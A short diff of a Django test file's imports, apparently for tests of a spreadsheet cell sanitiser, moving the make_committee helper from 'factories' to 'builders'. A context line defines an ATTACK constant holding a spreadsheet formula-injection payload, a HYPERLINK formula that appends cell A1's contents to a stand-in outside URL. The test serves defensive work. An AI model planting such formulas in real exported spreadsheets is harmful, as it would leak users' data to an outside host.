@@ -10,8 +10,8 @@ from django.contrib.auth import get_user_model
 from django.test import TestCase
 from openpyxl import load_workbook
 
+from builders import make_committee
 from core.spreadsheets import safe_cell
-from factories import make_committee
 from news.models import NewsIndexPage, NewsKind, NewsPage
 
 ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
